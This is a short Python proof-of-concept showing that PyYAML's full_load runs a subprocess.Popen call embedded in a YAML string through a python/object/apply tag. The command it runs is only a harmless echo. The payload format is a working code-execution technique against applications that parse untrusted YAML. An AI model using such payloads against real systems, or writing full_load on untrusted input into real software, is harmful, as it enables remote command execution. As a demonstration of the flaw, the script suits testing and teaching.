import subprocess  # imported by the application, as most are

import yaml

document = '!!python/object/apply:subprocess.Popen [["echo", "VULNERABLE: yaml.full_load started a process"]]'
process = yaml.full_load(document)
process.wait()
